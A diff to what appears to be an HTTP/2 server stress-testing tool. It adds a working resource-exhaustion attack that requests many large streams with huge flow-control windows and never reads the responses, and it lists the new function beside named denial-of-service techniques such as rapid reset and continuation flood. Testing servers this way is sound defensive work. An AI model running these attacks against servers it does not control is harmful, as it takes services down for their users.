@@ -327,6 +327,22 @@ def a_window_that_never_opens(host):
     return peer
 
 
+def much_asked_and_nothing_read(host):
+    """100 streams of 1 MiB, all windows open, and the socket left alone until the server resets."""
+    peer = Peer(host)
+    peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
+    peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7fffffff)))
+    select.select([peer.socket], [], [], 5)
+    peer.send(frame(SETTINGS, ACK)
+              + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535)))
+    peer.socket.sendall(b"".join(peer.get(stream, "/bytes?n=1048576")
+                                 for stream in range(1, 201, 2)))
+    hung_up = select.poll()
+    hung_up.register(peer.socket, select.POLLHUP | select.POLLERR)
+    hung_up.poll(60_000)
+    return peer
+
+
 def a_trickled_header_block(host):
     """Slow headers: a block that grows a byte at a time and is never complete."""
     peer = Peer(host)
@@ -365,7 +381,8 @@ BURDENS = (rapid_reset, continuation_flood, ping_flood, settings_flood, empty_da
            priority_flood, window_update_flood, hpack_bomb, huge_headers,
            more_streams_than_allowed, a_window_that_never_opens, half_a_preface,
            resets_made_by_us, padding_flood, priority_update_flood, unknown_frame_flood,
-           many_fields, much_header_memory, a_trickled_header_block, nothing_asked)
+           many_fields, much_header_memory, much_asked_and_nothing_read,
+           a_trickled_header_block, nothing_asked)
 ATTACKS = {attack.__name__: attack for attack in VIOLATIONS + BURDENS}
 
 
